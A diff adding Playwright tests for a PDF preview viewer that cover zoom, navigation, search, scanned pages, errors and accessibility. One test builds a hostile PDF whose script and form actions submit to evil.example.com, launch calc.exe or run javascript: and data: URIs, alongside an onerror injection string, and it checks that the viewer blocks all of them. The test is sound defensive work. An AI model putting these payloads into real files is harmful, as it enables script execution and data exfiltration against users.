@@ -1,0 +1,216 @@
+import { expect, test } from '@playwright/test'
+import { expectAccessible } from '../../fixtures/browser/expect-accessible.ts'
+import { firstExtra, pdfWith, scannedPdf, textAt, textPdf, type Scan } from '../../fixtures/files/sample-files.ts'
+import { PreviewPage } from '../../fixtures/pages/preview-page.ts'
+
+const zoomed = (preview: PreviewPage) => preview.dialog.getByRole('combobox', { name: 'Zoom' })
+const pageNumber = (preview: PreviewPage) => preview.dialog.getByRole('textbox', { name: /^Page, of/ })
+
+test('a PDF: its text, its size, its pages, by mouse and by keyboard; the focus comes back', async ({ page }) => {
+  const preview = await PreviewPage.of(page, { 'Memo.pdf': textPdf(6, () => ['equity injection of ten percent']) })
+  await preview.open('Memo.pdf')
+  await expect(preview.pdfPage(1).getByText('Credit memorandum, page 1')).toBeAttached()
+  expect(await preview.darkness(1)).toBeGreaterThan(0.0005)
+  await expect(zoomed(preview)).toHaveValue('width')
+  const widthOf = async () => (await preview.pdfPage(1).boundingBox())?.width ?? 0
+  expect(await widthOf()).toBeGreaterThan(1300)
+
+  await zoomed(preview).selectOption('100')
+  await expect.poll(widthOf).toBe(816)
+  await preview.button('Zoom in').click()
+  await expect.poll(widthOf).toBe(898)
+  await page.mouse.move(700, 500)
+  await page.keyboard.down('Control')
+  await page.mouse.wheel(0, 300)
+  await page.keyboard.up('Control')
+  await expect.poll(widthOf).toBeLessThan(898)
+  await zoomed(preview).selectOption('page')
+  await page.keyboard.press('Escape')
+  await preview.link('Memo.pdf').click()
+
+  await expect(preview.pdfPage(1)).toBeVisible()
+  await page.keyboard.press('End')
+  await expect(pageNumber(preview)).toHaveValue('6')
+  await page.keyboard.press('g')
+  await page.keyboard.type('3')
+  await page.keyboard.press('Enter')
+  await expect(preview.pdfPage(3)).toBeInViewport()
+  await page.keyboard.press('Escape')
+  await expect(pageNumber(preview)).toHaveValue('3')
+  await page.keyboard.press('r')
+  await expect.poll(async () => (await preview.pdfPage(3).boundingBox())?.height ?? 0).toBeLessThan(1200)
+  await page.keyboard.press('Escape')
+  await expect(preview.dialog).toBeHidden()
+  await expect(preview.link('Memo.pdf')).toBeFocused()
+  await preview.expectNothingExecuted()
+})
+
+test('a PDF of 300 pages shows its first page before the rest is read, and only the pages one looks at', async ({
+  page,
+}) => {
+  // Beyond what comes in one piece, so that it is fetched in parts.
+  const lines = Array.from({ length: 38 }, (_, line) => `${line}. ${'the borrower shall inject equity '.repeat(2)}`)
+  const preview = await PreviewPage.of(page, {
+    'Package.pdf': textPdf(300, (n) => [`Exhibit ${n} of the file`, ...lines]),
+  })
+  const ranges: string[] = []
+  page.on('request', (request) => {
+    const range = request.headers()['range']
+    if (range !== undefined) ranges.push(range)
+  })
+  await preview.open('Package.pdf')
+  await expect(preview.pdfPage(1).getByText('Credit memorandum, page 1')).toBeAttached()
+  expect(ranges.length).toBeGreaterThan(0)
+  expect(ranges.every((range) => /^bytes=\d+-\d+$/.test(range))).toBe(true)
+  const groups = preview.dialog.getByRole('group', { name: /^Page \d+$/ })
+  expect(await groups.count()).toBeLessThan(6)
+
+  await pageNumber(preview).fill('250')
+  await page.keyboard.press('Enter')
+  await expect(preview.pdfPage(250).getByText('page 250')).toBeAttached()
+  expect(await groups.count()).toBeLessThan(6)
+
+  await page.keyboard.press('Control+f')
+  const field = preview.dialog.getByRole('textbox', { name: 'Find in document' })
+  await expect(field).toBeFocused()
+  await field.fill('EXHIBIT  299')
+  const status = preview.dialog.getByRole('search').getByRole('status')
+  await expect(status).toHaveText('1 of 1')
+  await expect(preview.pdfPage(299).locator('[data-active]')).toBeInViewport()
+  await field.fill('credit memorandum')
+  await expect(status).toHaveText('250 of 300')
+  await page.keyboard.press('Enter')
+  await expect(status).toHaveText('251 of 300')
+  await expect(preview.pdfPage(251).locator('[data-active]')).toBeInViewport()
+  await page.keyboard.press('Shift+Enter')
+  await page.keyboard.press('Shift+Enter')
+  await expect(status).toHaveText('249 of 300')
+  await field.fill('nowhere to be found')
+  await expect(status).toHaveText('Not found')
+  // First the search, then the preview.
+  await page.keyboard.press('Escape')
+  await expect(field).toBeHidden()
+  await expect(preview.dialog).toBeVisible()
+  await preview.expectNothingExecuted()
+})
+
+test('scanned pages are decoded, whatever the scanner wrote, and said to have no text', async ({ page }) => {
+  const filters: Scan[] = ['JBIG2Decode', 'JPXDecode', 'CCITTFaxDecode']
+  const preview = await PreviewPage.of(
+    page,
+    Object.fromEntries(filters.map((filter) => [`${filter}.pdf`, scannedPdf(filter)])),
+  )
+  for (const filter of filters) {
+    await preview.open(`${filter}.pdf`)
+    // Of 64 by 64 pixels 1681 are dark.
+    await expect.poll(() => preview.darkness(1), { message: filter }).toBeGreaterThan(0.35)
+    expect(await preview.darkness(1), filter).toBeLessThan(0.5)
+  }
+  await page.keyboard.press('/')
+  await page.keyboard.type('anything')
+  await expect(preview.dialog.getByRole('search').getByRole('status')).toHaveText('No text: a scan')
+  await preview.expectNothingExecuted()
+})
+
+test('nothing a PDF asks for is done: no script, no form, no program; links say where they lead', async ({ page }) => {
+  const script = String.raw`/S/JavaScript/JS(app.alert\(1\); window.struck = 1; this.submitForm\('https://evil.example.com'\);)`
+  const link = (number: number, action: string) =>
+    `<</Type/Annot/Subtype/Link/Border[0 0 0]/Rect[72 ${600 - number * 40} 300 ${620 - number * 40}]${action}>>`
+  const links = [
+    link(0, '/A<</S/URI/URI(https://www.sba.gov/forms)>>'),
+    link(1, '/A<</S/URI/URI(javascript:window.struck=1)>>'),
+    link(2, `/A<<${script}>>`),
+    link(3, '/A<</S/Launch/F(calc.exe)>>'),
+    link(4, '/A<</S/SubmitForm/F(https://evil.example.com)>>'),
+    link(5, '/A<</S/URI/URI(data:text/html,<script>window.struck=1</script>)>>'),
+    link(6, '/Dest[6 0 R/Fit]'),
+  ]
+  const button = `<</Type/Annot/Subtype/Widget/FT/Btn/Ff 65536/T(Go)/Rect[72 100 200 130]/MK<</CA(Go)>>/A<<${script}>>/AA<</E<<${script}>>>>>>`
+  const hostile = pdfWith(
+    [
+      {
+        content: textAt('<img src=x onerror="window.struck=1"> {{7*7}}', 72, 700),
+        more: `/Annots[${links.join('')}${button}]/AA<</O<<${script}>>>>`,
+      },
+      { content: textAt('The second page', 72, 700) },
+    ],
+    {
+      catalog: `/OpenAction<<${script}>>/Names<</JavaScript<</Names[(a) ${firstExtra(2)} 0 R]>>>>`,
+      extra: [`<<${script}>>`],
+    },
+  )
+  const preview = await PreviewPage.of(page, { 'Hostile.pdf': hostile })
+  const asked: string[] = []
+  page.on('request', (request) => {
+    if (!request.url().startsWith(new URL(page.url()).origin) && !/^(blob|data):/.test(request.url()))
+      asked.push(request.url())
+  })
+  page.on('dialog', () => asked.push('a dialog'))
+  await preview.open('Hostile.pdf')
+  await expect(preview.pdfPage(1).getByText('onerror')).toBeAttached()
+  expect(await preview.darkness(1)).toBeGreaterThan(0)
+
+  const out = preview.pdfPage(1).getByRole('link')
+  await expect(out).toHaveCount(1)
+  await expect(out).toHaveAttribute('href', 'https://www.sba.gov/forms')
+  await expect(out).toHaveAttribute('rel', /noopener/)
+  await expect(out).toHaveAttribute('target', '_blank')
+  await out.focus()
+  await expect(out.getByText('https://www.sba.gov/forms')).toBeVisible()
+  await expect(preview.pdfPage(1).locator('input, form, iframe, script')).toHaveCount(0)
+  await preview.pdfPage(1).getByRole('button').click()
+  await expect(preview.pdfPage(2)).toBeInViewport()
+  await expect(pageNumber(preview)).toHaveValue('2')
+  expect(asked).toEqual([])
+  await preview.expectNothingExecuted()
+})
+
+test('a damaged document, missing bytes and an address that ran out: the reason, and another try', async ({ page }) => {
+  const preview = await PreviewPage.of(page, { 'Memo.pdf': textPdf(1), 'Note.txt': 'Only words.' })
+  let answer: number | null = 404
+  await page.route('**/files/**', (route) => (answer === null ? route.continue() : route.fulfill({ status: answer })))
+  await preview.open('Memo.pdf')
+  const alert = preview.dialog.getByRole('alert')
+  await expect(alert).toContainText('Failed to load Document')
+  await expect(alert).toContainText('The file is missing.')
+  answer = null
+  await preview.button('Try again').click()
+  await expect(preview.pdfPage(1).getByText('Credit memorandum')).toBeAttached()
+
+  // The address was asked for a while ago and has run out meanwhile: a new one is asked for.
+  await preview.button('Next document').click()
+  await expect(preview.dialog.getByText('Only words.')).toBeVisible()
+  const asked: string[] = []
+  page.on('request', (request) => {
+    if (request.url().includes('/download/presigned/url')) asked.push(request.url())
+  })
+  let refused = 0
+  await page.route('**/files/**', (route) => {
+    refused += 1
+    return refused === 1 ? route.fulfill({ status: 403 }) : route.continue()
+  })
+  await preview.button('Previous document').click()
+  await expect(preview.pdfPage(1).getByText('Credit memorandum')).toBeAttached()
+  expect(asked.length).toBe(1)
+
+  await page.route('**/files/**', (route) => route.fulfill({ status: 200, body: '%PDF-1.7 and then nothing' }))
+  await preview.open('Memo.pdf')
+  await expect(alert).toContainText('This PDF is damaged and can’t be opened.')
+  await preview.expectNothingExecuted()
+})
+
+test('the preview is accessible, in the light and in the dark, with its help and its search open', async ({ page }) => {
+  test.slow()
+  const preview = await PreviewPage.of(page, { 'Memo.pdf': textPdf(2), 'Note.txt': 'words' })
+  await page.emulateMedia({ colorScheme: 'light', reducedMotion: 'reduce' })
+  await preview.open('Memo.pdf')
+  await expect(preview.pdfPage(1).getByText('Credit memorandum')).toBeAttached()
+  await page.keyboard.press('?')
+  await expect(preview.dialog.getByRole('region', { name: 'Keyboard shortcuts' })).toBeVisible()
+  await page.keyboard.press('/')
+  await expectAccessible(page)
+  await page.emulateMedia({ colorScheme: 'dark', reducedMotion: 'reduce' })
+  await preview.open('Note.txt')
+  await expect(preview.dialog.getByText('words')).toBeVisible()
+  await expectAccessible(page)
+})
